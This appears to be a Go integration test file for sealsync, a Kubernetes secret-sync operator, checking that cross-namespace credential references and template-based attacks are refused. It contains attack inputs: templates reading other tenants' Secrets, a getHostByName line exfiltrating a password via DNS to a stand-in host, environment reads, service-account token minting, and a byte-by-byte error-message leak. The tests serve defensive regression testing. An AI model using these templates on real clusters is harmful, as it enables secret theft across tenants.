package externalsecrets_test

import (
	"fmt"
	"strconv"
	"strings"
	"testing"

	corev1 "k8s.io/api/core/v1"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	utilrand "k8s.io/apimachinery/pkg/util/rand"
	"sigs.k8s.io/controller-runtime/pkg/client"

	esv1 "github.com/sealsync/sealsync/api/externalsecrets/v1"
	"github.com/sealsync/sealsync/internal/testkit"
)

// TestStoreRefusesCrossNamespaceCredentials points namespaced
// SecretStores at credentials in another namespace, the shape ESO's own
// vault-token-store.yaml snippet once showed (tokenSecretRef.namespace
// "secret-admin" on a SecretStore) and ESO refuses since 2.4.0 (#6313):
// each store is refused with a status that says why, its ExternalSecret
// does not sync, and Vault is never asked anything, which it would be had
// the credentials been read.
func TestStoreRefusesCrossNamespaceCredentials(t *testing.T) {
	_, v := requireEnv(t)
	resetKV(t, v, 2)
	put(t, v, "victim", map[string]any{"value": value("victim")})
	role, err := v.CreateAppRole(t.Context(), "victim", readerPolicy)
	if err != nil {
		t.Fatal(err)
	}
	secrets.add("an AppRole secret ID", role.SecretID)
	s := setup(t, 2)
	tenant, victim := s.ns[0], s.ns[1]
	s.apply(victim, fmt.Sprintf(`apiVersion: v1
kind: Secret
metadata:
  name: vault-credentials
stringData:
  token: %s
  secret-id: %s
---
apiVersion: v1
kind: ConfigMap
metadata:
  name: vault-ca
data:
  ca.crt: not a certificate
`, readerToken(t, v), role.SecretID))
	serviceAccount(t, s, victim, "vault-reader", true)

	const foreign = "namespace should either be empty or match the namespace of the SecretStore for a namespaced SecretStore"
	stores := []struct{ name, auth, msg string }{
		{name: "token", msg: foreign, auth: fmt.Sprintf(`
      auth:
        tokenSecretRef:
          name: vault-credentials
          namespace: %s
          key: token`, victim)},
		{name: "approle", msg: foreign, auth: fmt.Sprintf(`
      auth:
        appRole:
          path: approle
          roleId: %s
          secretRef:
            name: vault-credentials
            namespace: %s
            key: secret-id`, role.RoleID, victim)},
		{name: "kubernetes", msg: foreign, auth: fmt.Sprintf(`
      auth:
        kubernetes:
          mountPath: kubernetes
          role: demo
          serviceAccountRef:
            name: vault-reader
            namespace: %s`, victim)},
		// CVE-2026-42875 (GHSA-wv26-88m5-6h59): a CA from another
		// namespace's ConfigMap.
		{name: "ca-provider", msg: "a SecretStore reads only its own namespace", auth: fmt.Sprintf(`
      caProvider:
        type: ConfigMap
        name: vault-ca
        namespace: %s
        key: ca.crt
      auth:
        tokenSecretRef:
          name: vault-credentials
          key: token`, victim)},
	}
	before := s.auditLog()
	for _, st := range stores {
		s.apply(tenant, fmt.Sprintf(`apiVersion: external-secrets.io/v1
kind: SecretStore
metadata:
  name: %s
spec:
  provider:
    vault:
      server: %q
      path: secret
      version: v2%s
`, st.name, v.Addr, st.auth))
		s.apply(tenant, esFor(st.name, st.name, "victim", ""))
	}
	for _, st := range stores {
		store := s.waitStore(tenant, st.name, corev1.ConditionFalse, st.msg)
		t.Logf("store %s: %s", st.name, store.Status.Conditions[0].Message)
		s.waitFailed(tenant, st.name, "SecretStore is not ready")
	}
	for _, st := range stores {
		if s.secret(tenant, st.name) != nil {
			t.Errorf("%s: a Secret was written", st.name)
		}
	}
	if calls := s.auditSince(before); len(calls) != 0 {
		t.Errorf("Vault was asked %d times with foreign credentials:\n%s", len(calls), calls)
	}
}

// TestClusterSecretStoreConditions uses a ClusterSecretStore with the
// conditions of ESO's full-cluster-secret-store.yaml (the operator's) from
// namespaces each condition admits and one none does. Its regexes match
// as ESO's do, unanchored: "namespace-a-.*", which the example calls a
// prefix, admits any name containing it. From the refused namespace a
// tenant cannot reach the store through data[].sourceRef.storeRef or
// dataFrom[].sourceRef.storeRef either.
func TestClusterSecretStoreConditions(t *testing.T) {
	e, v := requireEnv(t)
	resetKV(t, v, 2)
	want := value("conditions")
	put(t, v, "shared", map[string]any{"value": want})
	listed := e.Namespace(t)
	byLabel := namespace(t, e, "t-"+utilrand.String(8), map[string]string{"my.namespace.io/some-label": "value"})
	byRegex := namespace(t, e, listed+"-generated", nil)
	bySubstring := namespace(t, e, "x"+listed+"-generated", nil)
	refused := e.Namespace(t)
	admin := e.Namespace(t)
	s := setupIn(t, e, v, auditPath, []string{listed, byLabel, byRegex, bySubstring, refused, admin})
	s.apply(admin, "apiVersion: v1\nkind: Secret\nmetadata:\n  name: my-secret\nstringData:\n  vault-token: "+readerToken(t, v)+"\n")
	name := "vault-" + listed
	s.apply("", golden(t, "css-conditions.yaml", strings.NewReplacer(
		"name: example\n", "name: "+name+"\n",
		`"https://vault.acme.org"`, strconv.Quote(v.Addr),
		`"secret-admin"`, strconv.Quote(admin),
		"namespace-a", listed,
		"namespace-b", "t-never-"+utilrand.String(8),
	)))
	for _, ns := range []string{listed, byLabel, byRegex, bySubstring, refused} {
		s.apply(ns, esFor("app", "ClusterSecretStore/"+name, "shared", ""))
	}
	for _, ns := range []string{listed, byLabel, byRegex, bySubstring} {
		s.waitSynced(ns, "app")
		s.waitData(ns, "app", map[string]string{"value": want})
	}
	notAllowed := fmt.Sprintf(`using ClusterSecretStore %q from namespace %q: namespace not allowed by the ClusterSecretStore's conditions`, name, refused)
	s.waitFailed(refused, "app", notAllowed)

	// The refused namespace's own store is usable; entries that name the
	// ClusterSecretStore themselves are refused all the same.
	s.apply(refused, tokenStore(t, v, "own"))
	sourceRef := "    sourceRef:\n      storeRef:\n        kind: ClusterSecretStore\n        name: " + name + "\n"
	s.apply(refused, esFor("via-data", "own", "shared", "")+`  - secretKey: stolen
    remoteRef:
      key: shared
      property: value
`+sourceRef)
	s.apply(refused, esFor("via-datafrom", "own", "shared", "")+`  dataFrom:
  - extract:
      key: shared
`+sourceRef)
	for _, es := range []string{"app", "via-data", "via-datafrom"} {
		s.waitFailed(refused, es, notAllowed)
		if s.secret(refused, es) != nil {
			t.Errorf("%s: a Secret was written in the namespace the conditions refuse", es)
		}
	}
}

// templateES is an ExternalSecret named name whose template renders key
// "out" with tmpl over the Vault secret at cve/app.
func templateES(name, store, tmpl string) string {
	return fmt.Sprintf(`apiVersion: external-secrets.io/v1
kind: ExternalSecret
metadata:
  name: %s
spec:
  secretStoreRef:
    name: %s
  target:
    template:
      data:
        out: %s
  dataFrom:
  - extract:
      key: cve/app
`, name, store, strconv.Quote(tmpl))
}

// TestTemplatesCannotReachOut reproduces the template attacks of ESO's
// advisories: each ExternalSecret fails with a status naming the refused
// function, writes nothing, and nothing it reached for shows up anywhere
// (the suite's leak check covers statuses, events and logs).
func TestTemplatesCannotReachOut(t *testing.T) {
	_, v := requireEnv(t)
	resetKV(t, v, 2)
	put(t, v, "cve/app", map[string]any{"password": value("cve-password")})
	s := setup(t, 2)
	tenant, victim := s.ns[0], s.ns[1]
	victimPassword := value("victim-password")
	s.apply(victim, "apiVersion: v1\nkind: Secret\nmetadata:\n  name: db-credentials\nstringData:\n  password: "+victimPassword+"\n")
	s.apply(tenant, tokenStore(t, v, "vault"))

	cases := []struct{ name, template, msg string }{
		// CVE-2026-22822 (GHSA-77v3-r3jw-j2v2): getSecretKey read any
		// namespace's Secrets with the controller's rights. The attack of
		// ESO #5690, pointed at another tenant.
		{"cve-2026-22822-getsecretkey", `{{ getSecretKey "db-credentials" "` + victim + `" "password" }}`, `function "getSecretKey" not defined`},
		// CVE-2026-34984 (GHSA-r2pg-r6h7-crf3): Sprig's getHostByName let a
		// template leak a secret through a DNS lookup.
		{"cve-2026-34984-gethostbyname", `{{ printf "%s.exfil.invalid" .password | getHostByName }}`, `function "getHostByName" not defined`},
		// The controller's environment, removed from Sprig by ESO too.
		{"env", `{{ env "HOME" }}`, `function "env" not defined`},
		{"expandenv", `{{ expandenv "$HOME" }}`, `function "expandenv" not defined`},
		// A template that puts a secret in its own error, to land it in
		// the status and the event.
		{"fail-with-the-secret", `{{ fail .password }}`, `error calling fail`},
	}
	for _, c := range cases {
		s.apply(tenant, templateES(c.name, "vault", c.template))
	}
	for _, c := range cases {
		es := s.waitFailed(tenant, c.name, c.msg)
		t.Logf("%s: %s", c.name, readyOf(es).Message)
		if s.secret(tenant, c.name) != nil {
			t.Errorf("%s: a Secret was written", c.name)
		}
	}

	// templateFrom has no way to name another namespace: the field does
	// not exist, and a name resolves in the ExternalSecret's own.
	crossNS := fmt.Sprintf(`apiVersion: external-secrets.io/v1
kind: ExternalSecret
metadata:
  name: templatefrom-cross-namespace
spec:
  secretStoreRef:
    name: vault
  target:
    template:
      templateFrom:
      - secret:
          name: db-credentials
          namespace: %s
          items:
          - key: password
  dataFrom:
  - extract:
      key: cve/app
`, victim)
	if err := s.tryApply(tenant, crossNS); err == nil || !strings.Contains(err.Error(), `unknown field "spec.target.template.templateFrom[0].secret.namespace"`) {
		t.Errorf("templateFrom.secret.namespace: %v, want the API server to refuse the field", err)
	}
	s.apply(tenant, strings.Replace(crossNS, "          namespace: "+victim+"\n", "", 1))
	s.waitFailed(tenant, "templatefrom-cross-namespace", `secrets "db-credentials" not found`)
	if s.secret(tenant, "templatefrom-cross-namespace") != nil {
		t.Error("templateFrom: a Secret was written")
	}
}

// TestServiceAccountTokenTemplateRefused reproduces CVE-2026-42876
// (GHSA-fq7h-9x26-6j22): an ExternalSecret (tenant) whose Secret would be
// of type kubernetes.io/service-account-token, which Kubernetes' token
// controller fills with a long-lived token for the service account its
// annotation names. The API server refuses the static forms with ESO's
// CEL messages. The forms the CRD cannot see reach the controller's own
// check, on the Secret it would write: a template type without the
// annotation, an annotation without a type, and a Secret of that type that
// already exists (the operator's, holding a minted token) written into
// under each creation policy. Each is refused with a status and an event,
// and the existing token Secret is left as it was.
func TestServiceAccountTokenTemplateRefused(t *testing.T) {
	_, v := requireEnv(t)
	resetKV(t, v, 2)
	put(t, v, "cve/sa", map[string]any{"value": value("sa-token-source")})
	s := setup(t, 1)
	ns := s.ns[0]
	s.apply(ns, tokenStore(t, v, "vault"))
	serviceAccount(t, s, ns, "deployer", false)
	es := func(name, target string) string {
		return fmt.Sprintf(`apiVersion: external-secrets.io/v1
kind: ExternalSecret
metadata:
  name: %s
spec:
  secretStoreRef:
    name: vault
  target:%s
  data:
  - secretKey: value
    remoteRef:
      key: cve/sa
      property: value
`, name, target)
	}

	for _, c := range []struct{ name, target, msg string }{
		{"annotation", `
    template:
      type: kubernetes.io/service-account-token
      metadata:
        annotations:
          kubernetes.io/service-account.name: deployer`,
			`template.type="kubernetes.io/service-account-token" with annotation "kubernetes.io/service-account.name" is not allowed`},
		{"templatefrom-annotations", `
    template:
      type: kubernetes.io/service-account-token
      templateFrom:
      - target: Annotations
        literal: "kubernetes.io/service-account.name: deployer"`,
			`template.type="kubernetes.io/service-account-token" with templateFrom target="Annotations" is not allowed`},
		{"bootstrap", `
    template:
      type: bootstrap.kubernetes.io/token`,
			`template.type="bootstrap.kubernetes.io/token" is not allowed`},
	} {
		if err := s.tryApply(ns, es(c.name, c.target)); err == nil || !strings.Contains(err.Error(), c.msg) {
			t.Errorf("%s: %v, want the API server to refuse it: %s", c.name, err, c.msg)
		}
	}

	// What the token controller would have made for deployer, made here
	// by the operator (envtest runs no token controller).
	minted := value("a minted service account token")
	s.apply(ns, `apiVersion: v1
kind: Secret
metadata:
  name: deployer-token
  annotations:
    kubernetes.io/service-account.name: deployer
type: kubernetes.io/service-account-token
stringData:
  token: `+minted+"\n")
	existing := s.secret(ns, "deployer-token")

	const refused = "sealsync does not write Secrets that Kubernetes fills with or accepts as credentials"
	cases := []struct{ name, target, msg string }{
		// The CRD allows the type alone (ESO's rule needs the annotation
		// too); the API server would then refuse the Secret for want of
		// the annotation, but the controller refuses first.
		{"type-only", `
    template:
      type: kubernetes.io/service-account-token`,
			`secret type-only: type "kubernetes.io/service-account-token" is not allowed`},
		// No type: an Opaque Secret, but naming a service account.
		{"annotation-only", `
    template:
      templateFrom:
      - target: Annotations
        literal: "kubernetes.io/service-account.name: deployer"`,
			`secret annotation-only: annotation "kubernetes.io/service-account.name" is not allowed`},
		{"merge-into-token", `
    name: deployer-token
    creationPolicy: Merge`,
			`secret deployer-token exists with type "kubernetes.io/service-account-token"`},
		{"orphan-over-token", `
    name: deployer-token
    creationPolicy: Orphan`,
			`secret deployer-token exists with type "kubernetes.io/service-account-token"`},
		{"owner-over-token", `
    name: deployer-token`,
			`secret deployer-token exists with type "kubernetes.io/service-account-token"`},
	}
	for _, c := range cases {
		s.apply(ns, es(c.name, c.target))
	}
	for _, c := range cases {
		got := s.waitFailed(ns, c.name, c.msg)
		if !strings.Contains(readyOf(got).Message, refused) {
			t.Errorf("%s: %s", c.name, readyOf(got).Message)
		}
		s.waitEvent(ns, c.name, corev1.EventTypeWarning, esv1.ReasonUpdateFailed, c.msg)
	}
	s.unchanged(ns, "deployer-token", existing)
	var list corev1.SecretList
	if err := s.e.Client.List(s.ctx(), &list, client.InNamespace(ns)); err != nil {
		t.Fatal(err)
	}
	for _, sec := range list.Items {
		_, named := sec.Annotations[corev1.ServiceAccountNameKey]
		if sec.Name != existing.Name && (sec.Type == corev1.SecretTypeServiceAccountToken || named) {
			t.Errorf("Secret %s of type %s names a service account", sec.Name, sec.Type)
		}
	}
}

// TestRefusalsQuoteNoPlaintext: a tenant's template shapes a value so that
// a refusal would quote it. One puts a single byte of a Vault secret into
// a .dockerconfigjson, which the API server refuses with a message that
// quotes the byte its JSON parser stumbled on: a byte per edit of the
// template reads the whole secret. The other builds a key from a value,
// as ESO's docs build "my-application-{{ .user }}", with a character no
// key may hold. Both fail with a status and an event that say what is
// wrong, and neither the byte nor any 4 bytes of either secret shows in a
// status, an event or a log line (the suite's leak check, per window).
func TestRefusalsQuoteNoPlaintext(t *testing.T) {
	_, v := requireEnv(t)
	resetKV(t, v, 2)
	// A byte that stands out: '~' appears nowhere else in what the
	// controller says.
	const marker = "~"
	c := testkit.Canary()
	password := c[:12] + marker + c[12:]
	secrets.addCanary("a password holding "+marker, password)
	u := testkit.Canary()
	user := u[:12] + "@" + u[12:]
	secrets.addCanary("a user name holding @", user)
	put(t, v, "cve/leak", map[string]any{"password": password, "user": user})
	s := setup(t, 1)
	ns := s.ns[0]
	s.apply(ns, tokenStore(t, v, "vault"))

	// What the API server says about that byte, asked directly.
	probe := &corev1.Secret{
		ObjectMeta: metav1.ObjectMeta{Name: "probe", Namespace: ns},
		Type:       corev1.SecretTypeDockerConfigJson,
		Data:       map[string][]byte{corev1.DockerConfigJsonKey: []byte(marker)},
	}
	err := s.e.Client.Create(s.ctx(), probe, client.DryRunAll)
	if err == nil || !strings.Contains(err.Error(), "'"+marker+"'") {
		t.Fatalf("the API server's refusal does not quote the byte, so this test proves nothing: %v", err)
	}
	apiMessage := err.Error()

	s.apply(ns, `apiVersion: external-secrets.io/v1
kind: ExternalSecret
metadata:
  name: one-byte
spec:
  secretStoreRef:
    name: vault
  target:
    template:
      type: kubernetes.io/dockerconfigjson
      data:
        .dockerconfigjson: '{{ .password | substr 12 13 }}'
  dataFrom:
  - extract:
      key: cve/leak
---
apiVersion: external-secrets.io/v1
kind: ExternalSecret
metadata:
  name: key-from-value
spec:
  secretStoreRef:
    name: vault
  target:
    template:
      templateFrom:
      - literal: 'my-application-{{ .user }}: "{{ .password }}"'
  dataFrom:
  - extract:
      key: cve/leak
`)
	for name, msg := range map[string]string{
		"one-byte":       `the API server refused to write Secret "one-byte": Invalid (HTTP 422): data[.dockerconfigjson]: Invalid value`,
		"key-from-value": "templateFrom[0].literal: a rendered key is not a valid Secret key",
	} {
		es := s.waitFailed(ns, name, msg)
		note := s.waitEvent(ns, name, corev1.EventTypeWarning, esv1.ReasonUpdateFailed, "")
		for _, text := range []string{readyOf(es).Message, note} {
			if strings.Contains(text, marker) || strings.Contains(text, apiMessage) || strings.Contains(text, "invalid character") {
				t.Errorf("%s: %q relays what the API server said", name, text)
			}
		}
		if s.secret(ns, name) != nil {
			t.Errorf("%s: a Secret was written", name)
		}
	}
	var mine []string
	for _, line := range strings.Split(string(logs.Bytes()), "\n") {
		if strings.Contains(line, ns) {
			mine = append(mine, line)
		}
	}
	text := strings.Join(mine, "\n")
	for _, quoted := range []string{"'" + marker + "'", "invalid character"} {
		if strings.Contains(text, quoted) {
			t.Errorf("a log line holds %q", quoted)
		}
	}
	t.Logf("of %d log lines about the namespace, %d name the refused key", len(mine), strings.Count(text, "a rendered key is not a valid Secret key"))
}
